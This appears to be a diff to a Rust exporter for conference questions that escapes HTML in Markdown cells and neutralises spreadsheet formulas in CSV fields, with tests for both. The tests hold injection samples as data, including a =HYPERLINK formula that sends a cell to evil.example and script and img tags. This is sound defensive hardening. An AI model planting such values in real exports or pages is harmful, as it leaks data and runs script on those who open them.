@@ -27,7 +27,8 @@ fn title<'a>(schedule: Option<&'a Schedule>, question: &Question) -> &'a str {
         .map_or("", |s| s.title.as_str())
 }
 
-/// A Markdown table, one row a question; `|` is escaped and line breaks become `<br>`.
+/// A Markdown table, one row a question; `|` is escaped, HTML (`<`, `>`, `&`) is escaped so
+/// that a renderer shows it as typed, and line breaks become `<br>`.
 pub fn markdown(questions: &[Question], schedule: Option<&Schedule>) -> String {
     let mut out = String::from(
         "| Q | Session | Title | Asker | Asked at | Status | Votes | Question |\n\
@@ -66,6 +67,9 @@ pub fn markdown(questions: &[Question], schedule: Option<&Schedule>) -> String {
 
 fn markdown_cell(text: &str) -> String {
     text.trim()
+        .replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
         .replace("\r\n", "\n")
         .replace('\r', "\n")
         .replace('|', "\\|")
@@ -73,7 +77,8 @@ fn markdown_cell(text: &str) -> String {
 }
 
 /// CSV as RFC 4180 writes it: a header row, CRLF line ends, and fields holding a comma, a
-/// quote or a line break in double quotes with quotes doubled. Times are RFC 3339.
+/// quote or a line break in double quotes with quotes doubled. Times are RFC 3339. A field
+/// a spreadsheet would read as a formula starts with `'` (see [`csv_field`]).
 pub fn csv(questions: &[Question], schedule: Option<&Schedule>) -> String {
     let mut out = COLUMNS.join(",");
     out.push_str("\r\n");
@@ -97,11 +102,19 @@ pub fn csv(questions: &[Question], schedule: Option<&Schedule>) -> String {
     out
 }
 
+/// One CSV field. One starting with `=`, `+`, `-`, `@`, a tab or a carriage return is
+/// a formula to a spreadsheet (`=HYPERLINK(…)` in a question would run when the organizer
+/// opens the file), so it gets a leading `'`, which spreadsheets read as "this is text".
 fn csv_field(field: &str) -> String {
+    let field = if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{field}")
+    } else {
+        field.to_string()
+    };
     if field.contains([',', '"', '\r', '\n']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_string()
+        field
     }
 }
 
@@ -178,8 +191,8 @@ mod tests {
         assert_eq!(
             csv(&questions(), Some(&schedule())),
             "number,session,title,asker,asker_name,asked_at,status,reason,votes,text\r\n\
-             12,network,Network management in Enterprise Linux: present and future,@alice:example.org,\"Alice, \"\"Al\"\"\",2023-02-03T14:20:00+01:00,rejected,off topic,3,\"a|b, \"\"c\"\"\nsecond line\"\r\n\
-             13,gone,,@bob:example.org,Bob,2023-02-03T14:20:00+01:00,pending,,0,Plain\r\n"
+             12,network,Network management in Enterprise Linux: present and future,'@alice:example.org,\"Alice, \"\"Al\"\"\",2023-02-03T14:20:00+01:00,rejected,off topic,3,\"a|b, \"\"c\"\"\nsecond line\"\r\n\
+             13,gone,,'@bob:example.org,Bob,2023-02-03T14:20:00+01:00,pending,,0,Plain\r\n"
         );
     }
 
@@ -195,6 +208,65 @@ mod tests {
         assert_eq!(
             lines[3],
             "| Q13 | gone |  | Bob (@bob:example.org) | 2023-02-03 14:20 CET | pending | 0 | Plain |"
+        );
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote() {
+        let mut q = questions().remove(1);
+        q.asker_name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into();
+        let typed = ["+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "=1+1", "1+1", "a=b"];
+        let rows: Vec<String> = typed
+            .iter()
+            .map(|text| {
+                q.text = text.to_string();
+                csv(std::slice::from_ref(&q), None)
+            })
+            .collect();
+        let row = |csv: &str| csv.split_once("\r\n").unwrap().1.to_string();
+        assert_eq!(
+            row(&rows[0]),
+            "13,gone,,'@bob:example.org,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",2023-02-03T14:20:00+01:00,pending,,0,'+1\r\n"
+        );
+        let texts: Vec<String> = rows
+            .iter()
+            .map(|csv| row(csv).trim_end().rsplit_once(",0,").unwrap().1.to_string())
+            .collect();
+        assert_eq!(
+            texts,
+            [
+                "'+1",
+                "'-2+3",
+                "'@SUM(A1:A2)",
+                "'\tx",
+                "\"'\rx\"",
+                "'=1+1",
+                "1+1",
+                "a=b"
+            ]
+        );
+    }
+
+    #[test]
+    fn markdown_shows_html_as_typed() {
+        let mut q = questions().remove(1);
+        q.asker_name = "<b>Bob</b>".into();
+        q.text = "Is <script>alert(1)</script> & &amp; safe?\n<img src=x>".into();
+        let schedule = crate::schedule::native::parse(
+            "[conference]\nname = \"C\"\ntimezone = \"Europe/Brussels\"\n\
+             [[sessions]]\nid = \"gone\"\ntitle = \"<i>Rust</i> & C\"\nstart = \"2023-02-03T14:00\"\nend = \"2023-02-03T15:00\"\n",
+            "c",
+            None,
+        )
+        .unwrap()
+        .schedule;
+        let table = markdown(&[q], Some(&schedule));
+        assert_eq!(
+            table.lines().nth(2),
+            Some(
+                "| Q13 | gone | &lt;i&gt;Rust&lt;/i&gt; &amp; C | &lt;b&gt;Bob&lt;/b&gt; (@bob:example.org) | 2023-02-03 14:20 CET | pending | 0 | \
+                 Is &lt;script&gt;alert(1)&lt;/script&gt; &amp; &amp;amp; safe?<br>&lt;img src=x&gt; |"
+            )
         );
     }
 
